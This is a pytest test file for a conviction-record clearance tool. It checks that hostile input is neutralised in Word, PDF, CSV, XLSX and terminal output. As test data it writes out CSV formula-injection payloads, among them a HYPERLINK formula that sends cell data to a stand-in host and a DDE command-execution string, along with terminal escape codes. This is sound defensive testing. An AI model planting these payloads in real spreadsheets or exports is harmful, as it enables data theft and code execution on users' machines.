"""Hostile text in the data: every document opens, no spreadsheet runs a formula, and
nothing from the data drives the terminal (issue 15; clearance/textsafe.py).

One extract carries what real files and attackers send: control characters XML forbids
(``\\x1a``, ``\\x00``, ``\\x07``) in a name, a court and a case number; Rich markup and
terminal escape codes (``[/]``, ``[bold]``, ``\\x1b[31m``); and cells a spreadsheet
would evaluate (``=HYPERLINK(...)``, ``+1-555``, ``@SUM``, ``-99``).
"""

from __future__ import annotations

import csv
import io
import zipfile
from itertools import pairwise
from pathlib import Path

import docx
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from pypdf import PdfReader
from rich.console import Console
from typer.testing import CliRunner

from clearance.cli import app
from clearance.screen import Screen
from clearance.textsafe import (
    FORMULA_START,
    REPLACEMENT,
    shown,
    spreadsheet_safe,
    terminal_safe,
    write_csv,
    xml_safe,
    xml_text,
)
from conftest import line
from filings_support import squash

runner = CliRunner()

XML_NAME = "DOE\x1a,JANE\x00 Q\x07"  # one \x1a in one name blocked every filing
XML_COURT = "CASC SACRAMENTO\x1aNORTH"
XML_CASE = "10F\x1a0001"
MARKUP_NAME = "ROE,[bold]JOHN[/]\x1b[31m"
MARKUP_COURT = "CASC [/]SACRAMENTO\x1b[31m"
FORMULA_NAME = '=HYPERLINK("http://x/?"&A2,"click")'
FORMULA_CASE = "+1-555"
FORMULA_COURT = "@SUM(1+1)"
FORMULA_COMMENT = "-1+1 CALLED IN"  # determinations.csv carries the comment
REVIEW_CASE = "-99"  # an unreadable charge: awaiting review

ESC = "\x1b"
FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_extract() -> str:
    felony = {"OFFENSE_DESCR": "11359 HS-POSSESS MARIJUANA FOR SALE", "OFFENSE_TOC": "F",
              "CONV_STAT_DESCR": "FELONY"}  # fmt: skip
    lines = [
        line(SUBJECT_ID="10000001", PRI_NAME=XML_NAME, STP_ORI_DESCR=XML_COURT, OFN=XML_CASE),
        line(
            felony,
            SUBJECT_ID="10000002",
            PRI_NAME=MARKUP_NAME,
            STP_ORI_DESCR=MARKUP_COURT,
            OFN="10F0002",
        ),
        line(
            SUBJECT_ID="10000003",
            PRI_NAME=FORMULA_NAME,
            STP_ORI_DESCR=FORMULA_COURT,
            OFN=FORMULA_CASE,
            COMMENT_TEXT=FORMULA_COMMENT,
        ),
        line(
            SUBJECT_ID="10000004",
            PRI_NAME="@SUM(A1),-2",
            OFN=REVIEW_CASE,
            OFFENSE_DESCR="HS-POSSESS MARIJUANA",
        ),
        # another county, for inspect's county tables
        line(SUBJECT_ID="10000005", STP_ORI_CNTY_NAME="[/]YOLO\x1b[31m", OFN="10F0005"),
        "1,2,3",  # a rejected line: rejects.csv
    ]
    return "\n".join(lines) + "\n"


def invoke(*args):
    return runner.invoke(app, [str(a) for a in args])


@pytest.fixture(scope="module")
def extract(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "@hostile.dat"
    path.write_text(hostile_extract(), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def ran(extract) -> tuple[Path, str]:
    out = extract.parent / "out"
    result = invoke("run", extract, "--county", "SACRAMENTO", "--as-of", "2020-07-01", "--out", out)
    assert result.exit_code == 0, result.output
    return out, result.output


@pytest.fixture(scope="module")
def filed(ran) -> tuple[Path, str]:
    out = ran[0].parent / "filings"
    result = invoke("filings", "--run", ran[0], "--out", out)
    assert result.exit_code == 0, result.output
    return out, result.output


# --- documents: every Word and PDF file opens, the forbidden characters replaced ---------


def docx_text(path: Path | io.BytesIO) -> str:
    document = docx.Document(path if isinstance(path, io.BytesIO) else str(path))
    paragraphs = [p.text for p in document.paragraphs]
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    props = document.core_properties
    return "\n".join([*paragraphs, *cells, props.title or "", props.subject or ""])


def pdf_text(path: Path) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(path).pages)


def test_a_control_character_in_a_name_court_and_case_blocks_no_filing(filed):
    folder, _ = filed
    documents = sorted(folder.rglob("*.docx")) + sorted(folder.rglob("*.pdf"))
    assert len(documents) >= 10
    texts = {p: docx_text(p) if p.suffix == ".docx" else pdf_text(p) for p in documents}
    for path, text in texts.items():
        assert not any(c in text for c in "\x1a\x00\x07"), path
    words = [texts[p] for p in documents if p.suffix == ".docx"]
    # Word shows U+FFFD where the control character was: in the name, the case, the court
    expected = ["DOE\ufffd,JANE\ufffd Q\ufffd", "10F\ufffd0001"]
    for wanted in expected:
        assert any(wanted in t for t in words), wanted
    assert any("NORTH" in t and REPLACEMENT in t.split("NORTH")[0][-3:] for t in words)
    # The PDFs' standard fonts have no glyph for U+FFFD: they print a black square.
    exhibit = next(p for p in documents if p.suffix == ".pdf" and "exhibit-a" in p.name
                   and "DOE" in texts[p])  # fmt: skip
    assert "DOE\u25a0,JANE\u25a0 Q\u25a0" in texts[exhibit]
    assert "10F\u25a00001" in texts[exhibit]
    # markup and formulas are words like any other in a document
    assert any("ROE,[bold]JOHN[/]\ufffd[31m" in t for t in words)
    assert any(FORMULA_NAME in t for t in words)


def test_every_xml_part_of_every_word_file_parses(filed):
    for path in filed[0].rglob("*.docx"):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.endswith((".xml", ".rels")):
                    etree.fromstring(archive.read(name))  # raises on a forbidden character


def test_the_report_has_no_character_html_or_xml_forbids(ran):
    page = (ran[0] / "report.html").read_text("utf-8")
    assert "CASC SACRAMENTO\ufffdNORTH" in page  # in the tables and the charts
    assert not any(c in page for c in "\x1a\x00\x07\x1b")
    text = pdf_text(ran[0] / "report.pdf")
    assert "\x1a" not in text


def test_the_workbook_keeps_the_true_values_and_runs_no_formula(ran):
    with zipfile.ZipFile(ran[0] / "determinations.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    root = etree.fromstring(sheet)  # the XML parses: controls are written as _xHHHH_
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    assert root.findall(".//m:f", ns) == []  # no formula anywhere
    texts = ["".join(t.itertext()) for t in root.iterfind(".//m:is", ns)]
    assert "DOE_x001A_,JANE_x0000_ Q_x0007_" in texts  # Excel reads these back as \x1a ...
    assert FORMULA_NAME in texts  # as text, with no quote added
    assert FORMULA_CASE in texts


# --- CSV: one spreadsheet-safe rule for every file ---------------------------------------


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def assert_no_formula(path: Path) -> list[dict[str, str]]:
    rows = csv_rows(path)
    assert rows, path
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_CHARACTERS), (path.name, column, cell)
    return rows


def test_no_csv_of_a_run_starts_a_formula(ran):
    run = ran[0]
    every = {path.name: assert_no_formula(path) for path in sorted(run.glob("*.csv"))}
    assert set(every) == {"determinations.csv", "rejects.csv"}
    determinations = {r["subject_id"]: r for r in every["determinations.csv"]}
    assert determinations["10000003"]["name"] == "'" + FORMULA_NAME
    assert determinations["10000003"]["case_number"] == "'" + FORMULA_CASE
    assert determinations["10000003"]["court"] == "'" + FORMULA_COURT
    assert determinations["10000004"]["case_number"] == "'" + REVIEW_CASE
    assert determinations["10000003"]["comment_text"] == "'" + FORMULA_COMMENT
    # control characters and markup are not formulas: CSV keeps them as they are
    assert determinations["10000001"]["name"] == XML_NAME
    assert determinations["10000002"]["name"] == MARKUP_NAME
    # numbers stay numbers
    assert determinations["10000001"]["line"] == "1"
    assert determinations["10000001"]["age_at_conviction"] == "40"
    assert every["rejects.csv"][0]["file"] == "'@hostile.dat"
    assert every["rejects.csv"][0]["line"] == "6"


def test_no_csv_of_the_filings_starts_a_formula(filed):
    every = {path.name: assert_no_formula(path) for path in sorted(filed[0].rglob("*.csv"))}
    assert set(every) == {
        "doj-disposition-update.csv",
        "awaiting-review.csv",
        "mailing-list.csv",
        "no-address.csv",
    }
    doj = {r["subject_id"]: r for r in every["doj-disposition-update.csv"]}
    assert doj["10000003"]["case_number"] == "'" + FORMULA_CASE
    assert doj["10000003"]["exhibit_row"] == "1"
    awaiting = every["awaiting-review.csv"]
    assert [r["case_number"] for r in awaiting] == ["'" + REVIEW_CASE]
    mailing = {r["subject_id"]: r for r in every["mailing-list.csv"]}
    assert mailing["10000003"]["name_as_recorded"] == "'" + FORMULA_NAME
    assert mailing["10000003"]["convictions"] == "1"
    no_address = {r["subject_id"]: r for r in every["no-address.csv"]}
    assert no_address["10000003"]["display_name"] == mailing["10000003"]["display_name"]


def test_the_parquet_keeps_the_true_values(ran):
    table = pl.read_parquet(ran[0] / "determinations.parquet")
    names = dict(zip(table["subject_id"], table["name"], strict=True))
    assert names["10000003"] == FORMULA_NAME
    assert names["10000001"] == XML_NAME


def test_the_reviewed_csv_quotes_an_attorneys_formula_note(ran, tmp_path):
    import datetime as dt

    from clearance.web.reviewed import ReviewDecision, write_reviewed_run

    note = "=cmd|' /C calc'!A0"
    decision = ReviewDecision(
        "10000004", "001001001000", "not_eligible", note, "-atty", dt.datetime(2020, 7, 1)
    )
    write_reviewed_run(ran[0], [decision], tmp_path / "reviewed")
    rows = {
        r["subject_id"]: r for r in assert_no_formula(tmp_path / "reviewed" / "determinations.csv")
    }
    assert rows["10000004"]["review_note"] == "'" + note
    assert rows["10000004"]["citation"] == "'" + note  # the note is the ground given
    assert rows["10000004"]["reviewed_by"] == "'-atty"
    table = pl.read_parquet(tmp_path / "reviewed" / "determinations.parquet")
    assert note in table["review_note"].to_list()


ANY = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=20)
# half the cells start with a character near the rule's: each of them, digits, ":" to "?"
FIRST = st.sampled_from([*FORMULA_CHARACTERS, "'", " ", "0", "9", ":", "?", "A", "\n", "\x00"])
TEXT = st.one_of(ANY, st.tuples(FIRST, ANY).map("".join))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(TEXT, st.integers(-(10**12), 10**12)), min_size=1, max_size=20))
def test_any_text_cell_reads_back_with_no_formula_and_its_value_once_unquoted(rows):
    frame = pl.DataFrame(rows, schema={"text": pl.String, "number": pl.Int64}, orient="row")
    buffer = io.BytesIO()
    spreadsheet_safe(frame).write_csv(buffer)
    back = list(csv.reader(io.StringIO(buffer.getvalue().decode("utf-8"), newline="")))
    assert back[0] == ["text", "number"]
    for (text, number), (cell, written) in zip(rows, back[1:], strict=True):
        assert not cell.startswith(FORMULA_CHARACTERS)
        assert (cell[1:] if cell.startswith("'") else cell) == text
        assert int(written) == number  # a negative number is a number, not text


def test_write_csv_applies_the_rule_and_leaves_other_types_alone(tmp_path):
    frame = pl.DataFrame(
        {"t": ["-3", "x", None], "n": [-3, 4, 5], "f": [-1.5, 0.0, None], "b": [True, None, False]}
    ).with_columns(d=pl.date(2020, 1, 1), c=pl.Series(["=1", "a", "@"], dtype=pl.Categorical))
    write_csv(frame, tmp_path / "x.csv")
    assert (tmp_path / "x.csv").read_text() == (
        "t,n,f,b,d,c\n'-3,-3,-1.5,true,2020-01-01,'=1\nx,4,0.0,,2020-01-01,a\n,5,,false,2020-01-01,'@\n"
    )
    assert set(FORMULA_START) == {*FORMULA_CHARACTERS, "'"}


# --- the screen: markup and escape codes from the data are printed, never obeyed ----------


def assert_shown_plainly(result) -> str:
    assert result.exit_code == 0, (result.output, result.exception)
    assert ESC not in result.output
    return result.output


def test_inspect_prints_markup_and_escape_codes_as_text(extract):
    output = assert_shown_plainly(invoke("inspect", extract))
    assert "[/]YOLO\ufffd[31m" in output
    figures = invoke("inspect", extract, "--json").output
    assert ESC not in figures and "\\u001b[31m" in figures  # JSON's own escape
    buffer = io.StringIO()
    Screen(file=buffer).print_json(data={"county": "X\x9b31mY\u00e9"})
    assert "X\\u009b31mY\\u00e9" in buffer.getvalue()


def test_run_prints_no_escape_code(ran):
    assert ESC not in ran[1]


def test_explain_prints_a_name_and_court_with_markup_as_written(ran):
    output = assert_shown_plainly(invoke("explain", "--run", ran[0], "10000002"))
    assert "ROE,[bold]JOHN[/]\ufffd[31m" in output
    assert "CASC [/]SACRAMENTO\ufffd[31m" in output
    output = assert_shown_plainly(invoke("explain", "--run", ran[0], "10000001"))
    assert "DOE\ufffd,JANE\ufffd Q\ufffd" in output


def test_filings_prints_a_court_with_markup_as_written(filed):
    output = filed[1]
    assert ESC not in output
    assert "[/]" in output  # the court's name, printed, not read as a closing tag


def test_on_a_terminal_rich_styles_but_data_codes_never_reach_it(ran):
    from clearance.explain import explain
    from clearance.explain_render import render

    buffer = io.StringIO()
    screen = Screen(file=buffer, force_terminal=True, color_system="standard", width=200)
    render(explain(ran[0], "10000002"), screen)
    output = buffer.getvalue()
    assert "\x1b[1m" in output  # Rich's own bold
    assert "\x1b[31m" not in output  # the name's red never
    assert "[bold]JOHN[/]" in output


def test_a_missed_escape_prints_plain_text_rather_than_a_traceback():
    buffer = io.StringIO()
    Screen(file=buffer, width=80).print("[bold]court [/] [/] \x1b[2J\x07")
    assert buffer.getvalue() == "[bold]court [/] [/] \ufffd[2J\ufffd\n"
    plain = io.StringIO()
    Console(file=plain, width=80).print(shown("[bold]x[/]") + " :cat:", emoji=False)
    assert plain.getvalue() == "[bold]x[/] :cat:\n"


def test_the_shared_functions():
    assert xml_safe("a\x00\x08\x0b\x0c\x0e\x1f\ud800\ufffe\uffff\t\n\rb") == (
        "a" + REPLACEMENT * 9 + "\t\n\rb"
    )
    assert xml_text("<&>\x1a") == "&lt;&amp;&gt;" + REPLACEMENT
    assert terminal_safe("a\x1b[31m\x9b\u202eb\nc") == "a\ufffd[31m\ufffd\ufffdb\ufffdc"
    assert terminal_safe("a\x1b\nc\td", lines=True) == "a\ufffd\nc\td"
    assert shown("[/]\x1b") == "\\[/]\ufffd"


# --- the web app: the filings download and the reviewed CSV ------------------------------


def test_the_web_apps_filings_and_reviewed_csv_survive_hostile_text(tmp_path, monkeypatch):
    from argon2 import PasswordHasher
    from fastapi.testclient import TestClient

    from clearance.web import accounts
    from test_web_api import make_app, sign_in, start_run, upload, wait_for

    # cheaper password hashes, as in the web tests
    cheap = PasswordHasher(time_cost=1, memory_cost=1024)
    monkeypatch.setattr(accounts, "_hasher", cheap, raising=False)
    with TestClient(
        make_app(tmp_path / "home"), base_url="https://testserver", follow_redirects=False
    ) as client:
        token = sign_in(client, "ana")
        # the web app refuses a file with a NUL byte as binary: the rest stays
        extract = hostile_extract().replace("\x00", "").encode()
        response = upload(client, token, [("county.dat", extract)])
        upload_id = response.headers["location"].rsplit("=", 1)[1]
        run_id = start_run(client, token, sample="", upload=upload_id)
        assert wait_for(client, run_id).state == "done"
        token = sign_in(client, "atty")
        note = '=HYPERLINK("http://x/?"&A2,"click")\x1a'
        decision = {"subject_id": "10000004", "cnt_order": "001001001000",
                    "decision": "not_eligible", "note": note, "csrf_token": token}  # fmt: skip
        assert client.post(f"/runs/{run_id}/reviews/decide", data=decision).status_code == 303

        response = client.get(f"/runs/{run_id}/download/filings.zip")
        assert response.status_code == 200
        archive = zipfile.ZipFile(io.BytesIO(response.content))
        words = []
        for name in archive.namelist():
            if name.endswith(".docx"):
                words.append(docx_text(io.BytesIO(archive.read(name))))
            elif name.endswith(".pdf"):
                assert PdfReader(io.BytesIO(archive.read(name))).pages
        assert any("DOE\ufffd,JANE Q\ufffd" in t for t in words)

        response = client.get(f"/runs/{run_id}/download/determinations.csv")
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
        for row in rows:
            assert not any(cell.startswith(FORMULA_CHARACTERS) for cell in row.values()), row
        reviewed = next(r for r in rows if r["subject_id"] == "10000004")
        assert reviewed["review_note"] == "'" + note


def test_a_separator_character_in_a_case_number_puts_no_conviction_in_anothers_letter(
    tmp_path,
):
    # Letters render every conviction line in one pass, split on \x1e: a case number
    # holding one shifted the lines, and the next person's letter listed this one's case.
    cases = {"10000001": "AAA\x1eONE", "10000002": "BBBTWO", "10000003": "CCCTHREE"}
    extract = tmp_path / "extract.dat"
    extract.write_text(
        "\n".join(line(SUBJECT_ID=s, OFN=case, PRI_NAME=f"P{s},X") for s, case in cases.items())
        + "\n"
    )
    run, filings = tmp_path / "run", tmp_path / "filings"
    args = ("--county", "SACRAMENTO", "--as-of", "2020-07-01", "--out", run)
    assert invoke("run", extract, *args).exit_code == 0
    assert invoke("filings", "--run", run, "--out", filings).exit_code == 0
    rows = csv_rows(filings / "letters" / "mailing-list.csv")
    assert [r["subject_id"] for r in rows] == list(cases)
    for row in rows:
        for language in ("en", "es"):
            listed = row[f"convictions_{language}"]
            own = cases[row["subject_id"]].replace("\x1e", "\ufffd")
            assert own in listed, (row["subject_id"], listed)
            others = [c for s, c in cases.items() if s != row["subject_id"]]
            assert not any(c.split("\x1e")[-1] in listed for c in others)
    # the PDF letters print the same lines: each person's case after their own name
    letters = squash(pdf_text(filings / "letters" / "letters-en.pdf"))
    names = [letters.index(f"X P{s}") for s in cases]
    assert names == sorted(names)
    for (start, end), case in zip(pairwise([*names, len(letters)]), cases.values(), strict=True):
        assert case.split("\x1e")[-1] in letters[start:end]


ANY_TEXT = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)  # surrogates too


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_any_text_makes_xml_that_parses_and_reads_back_with_only_forbidden_characters_replaced(
    text,
):
    element = etree.fromstring(f"<t>{xml_text(text)}</t>".encode("utf-8", "surrogatepass"))
    expected = "".join(
        REPLACEMENT
        if (c < " " and c not in "\t\n\r") or "\ud800" <= c <= "\udfff" or c in "\ufffe\uffff"
        else c
        for c in text
    )
    # XML reads a carriage return as a line feed (XML 1.0, 2.11 End-of-Line Handling)
    assert (element.text or "") == expected.replace("\r\n", "\n").replace("\r", "\n")


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_any_text_in_a_markup_line_prints_as_written_with_no_control_character(text):
    buffer = io.StringIO()
    Screen(file=buffer, width=10_000).print(f"[bold]{shown(text)}[/] ok", soft_wrap=True)
    printed = buffer.getvalue()
    assert not any((c < " " and c != "\n") or "\x7f" <= c <= "\x9f" for c in printed)
    assert printed.rstrip("\n").endswith(" ok")
    assert printed.count("\n") == 1
    assert printed == terminal_safe(text) + " ok\n"  # the markup of the data printed as text


def test_an_office_name_with_a_control_character_and_markup_reaches_every_document(ran, tmp_path):
    office = (Path(__file__).resolve().parents[1] / "examples" / "office.yaml").read_text()
    name = "Office of the DA <b>&amp; \x1a[/]"
    office = office.replace(
        "  name: Office of the District Attorney, County of Example",
        '  name: "Office of the DA <b>&amp; \\x1a[/]"',
    )
    (tmp_path / "office.yaml").write_text(office)
    out = tmp_path / "filings"
    result = invoke("filings", "--run", ran[0], "--office", tmp_path / "office.yaml", "--out", out)
    assert result.exit_code == 0, result.output
    shown_name = name.replace("\x1a", REPLACEMENT)
    for path in out.rglob("*.docx"):
        document = docx.Document(str(path))
        assert document.core_properties.author == shown_name
    template = docx_text(out / "letters" / "letter-template-en.docx")
    assert shown_name in template
    assert "Office of the DA <b>&amp; \u25a0[/]" in pdf_text(out / "letters" / "letters-en.pdf")


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.one_of(st.none(), TEXT), min_size=1, max_size=30), st.integers(0, 4), st.booleans()
)
def test_the_first_look_at_a_column_never_misses_a_cell_the_rule_quotes(values, offset, views):
    """`spreadsheet_safe` looks at each value's first byte before it tests a column:
    from Arrow's string views (or, in any other layout, comparing the texts), on a
    slice too. It never passes over a column with a cell the rule quotes."""
    import pyarrow as pa

    from clearance import textsafe

    texts = pl.Series("t", ["pad"] * offset + values, dtype=pl.String).slice(offset)
    needed = any(v is not None and v.startswith(FORMULA_START) for v in values)
    if views:
        assert textsafe._may_start_formula(texts) >= needed
    else:
        real = pa.types.is_string_view
        pa.types.is_string_view = lambda t: False
        try:
            assert textsafe._may_start_formula(texts) >= needed
        finally:
            pa.types.is_string_view = real
    quoted = spreadsheet_safe(texts.to_frame())["t"].to_list()
    assert quoted == [None if v is None else ("'" + v if v.startswith(FORMULA_START) else v)
                      for v in values]  # fmt: skip
